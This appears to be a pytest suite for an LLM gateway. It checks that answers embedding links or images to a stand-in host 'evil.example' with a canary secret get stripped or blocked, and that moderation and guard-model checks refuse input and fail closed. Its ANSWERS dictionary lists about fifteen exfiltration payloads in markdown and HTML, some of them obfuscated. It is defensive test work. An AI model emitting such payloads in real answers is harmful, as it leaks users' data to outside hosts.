"""H5: no picture or link of an answer leads to a stranger; and servers that judge texts, asked by a gateway."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from gateway_process import GatewayProcess, events_of
from sample_gateway import KEY_A, plain_configuration
from upstream.guard_models import GuardServer
from upstream.vendor import Vendor

CHAT = "/v1/chat/completions"
HOST = "evil.example"
SECRET = "canary4711"
ADDRESS = f"//{HOST}/{SECRET}"

# What a chat window would fetch or offer, in the ways of garak's xss probes and of published attacks on assistants.
ANSWERS = {
    "image": f"Here: ![chart](https:{ADDRESS}) done.",
    "angle": f"![a](<https:{ADDRESS}?q=two words>)",
    "reference": f"![a][r]\n\n[r]: https:{ADDRESS} 'title'",
    "protocol-relative": f"![a]({ADDRESS})",
    "link": f"[click *here*](https:{ADDRESS})",
    "html": f'<img alt="x > y" src="https:{ADDRESS}">',
    "srcset": f'<img srcset="/a.png 1x, {ADDRESS} 2x">',
    "style": f"<p style=\"background:url('https:{ADDRESS}')\">hi</p>",
    "iframe": f"<iframe src=https:{ADDRESS}></iframe>",
    "entities": "![a](&#104;ttps&colon;&sol;&sol;evil&#46;example/canary4711)",
    "zero-width": "![a](h\u200bttps://ev\u200bil.exa\u2060mple/canary4711)",
    "autolink": f"<https:{ADDRESS}>",
    "bare": f"Open https:{ADDRESS} now",
    "userinfo": f"![a](https://trusted.example@{HOST}/{SECRET})",
    "data": f"<iframe src=\"data:text/html,<img src='https:{ADDRESS}'>\">",
}


@pytest.fixture(scope="module")
def guard() -> Iterator[GuardServer]:
    with GuardServer() as server:
        server.says = lambda seen: (
            ("unsafe\nS1", 0.9) if "bad" in seen.body["messages"][-1]["content"] else ("safe", 0.9)
        )
        yield server


@pytest.fixture(scope="module")
def running(
    shared_vendor: Vendor, guard: GuardServer, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[GatewayProcess]:
    configuration = plain_configuration(shared_vendor)
    links = {"check": "exfiltration", "allowed_hosts": ["trusted.example"]}
    models: dict[str, dict[str, list[Any]]] = {
        "safe-links": {"output": [links]},
        "no-links": {"output": [{**links, "action": "block"}]},
        "moderated": {"input": [{"check": "moderation", "url": f"{guard.root}/v1/moderations", "residency": "on_premises"}]},
        "guarded-in": {
            "input": [
                {"check": "guard_model", "family": "llama_guard", "model": "llama-guard-4", "url": f"{guard.root}/v1"}
            ]
        },
    }  # fmt: skip
    for name, guardrails in models.items():
        configuration["models"][name] = {"targets": ["mock/answers"], "guardrails": guardrails}
    with GatewayProcess(configuration, tmp_path_factory.mktemp("exfiltration")) as gateway:
        yield gateway
    assert "Traceback" not in gateway.output, gateway.output
    assert SECRET not in gateway.output


@pytest.fixture
def http(running: GatewayProcess, vendor: Vendor, guard: GuardServer) -> Iterator[httpx.Client]:
    guard.clear()
    guard.status = 200
    headers = {"authorization": f"Bearer {KEY_A}"}
    with httpx.Client(base_url=running.url, headers=headers, timeout=20, trust_env=False) as made:
        yield made


def ask(http: httpx.Client, model: str, question: str = "hello", **more: Any) -> httpx.Response:
    return http.post(CHAT, json={"model": model, "messages": [{"role": "user", "content": question}], **more})


def text_of(answer: httpx.Response) -> tuple[str, str]:
    """An answer's words, and how it ended."""
    if answer.headers["content-type"].startswith("application/json"):
        choice = answer.json()["choices"][0]
        return choice["message"]["content"], choice["finish_reason"]
    choices = [choice for event in events_of(answer.content) if event != "[DONE]" for choice in event["choices"]]
    return "".join(choice["delta"].get("content") or "" for choice in choices), choices[-1]["finish_reason"]


@pytest.mark.parametrize("how", [{}, {"piece": 1}, {"piece": 5}], ids=["whole", "letters", "pieces"])
@pytest.mark.parametrize("written", ANSWERS)
def test_h5_a_stranger_is_not_reached(http: httpx.Client, vendor: Vendor, written: str, how: dict[str, Any]) -> None:
    vendor.behaviours["answers"] = {"text": ANSWERS[written], **how}
    answer = ask(http, "safe-links", stream=bool(how))
    words, finish = text_of(answer)
    assert (answer.status_code, finish) == (200, "stop")
    for hidden in (SECRET, HOST, "data:", "&colon;", "\u200b"):
        assert hidden not in words
    assert "exfiltration" in words


@pytest.mark.parametrize("stream", [False, True])
def test_h5_what_is_trusted_or_was_named_stays(http: httpx.Client, vendor: Vendor, stream: bool) -> None:
    text = "![a](https://trusted.example/a.png) and [docs](https://docs.example.com/x) or /local.png"
    vendor.behaviours["answers"] = {"text": text}
    asked = "What does docs.example.com say?"
    assert text_of(ask(http, "safe-links", asked, stream=stream)) == (text, "stop")
    words, _ = text_of(ask(http, "safe-links", stream=stream))
    assert "docs.example.com" not in words
    assert "trusted.example" in words


@pytest.mark.parametrize("stream", [False, True])
def test_h5_blocked_nothing_of_it_leaves(http: httpx.Client, vendor: Vendor, stream: bool) -> None:
    vendor.behaviours["answers"] = {"text": ANSWERS["image"], "piece": 3}
    answer = ask(http, "no-links", stream=stream)
    words, finish = text_of(answer)
    assert (words or "", finish) == ("Here: ![chart](" if stream else "", "content_filter")
    assert "evil" not in answer.text
    assert SECRET not in answer.text


def test_d9_a_moderation_endpoint_decides_and_is_missed(http: httpx.Client, vendor: Vendor, guard: GuardServer) -> None:
    assert ask(http, "moderated", "peace").status_code == 200
    vendor.requests.clear()
    refused = ask(http, "moderated", "violence, please")
    assert (refused.status_code, refused.json()["error"]["code"]) == (400, "content_filter")
    assert "moderation: violence" in refused.json()["error"]["message"]
    guard.status = 500
    assert ask(http, "moderated", "calm, not asked about before").status_code == 503
    assert vendor.requests == []


def test_d9_a_guard_model_decides_and_is_missed(http: httpx.Client, vendor: Vendor, guard: GuardServer) -> None:
    assert ask(http, "guarded-in", "something good").status_code == 200
    vendor.requests.clear()
    refused = ask(http, "guarded-in", "something bad")
    assert (refused.status_code, refused.json()["error"]["code"]) == (400, "content_filter")
    assert "guard_model: S1" in refused.json()["error"]["message"]
    assert {seen.path for seen in guard.requests} == {CHAT}
    guard.status = 500
    assert ask(http, "guarded-in", "something not asked about before").status_code == 503
    assert vendor.requests == []
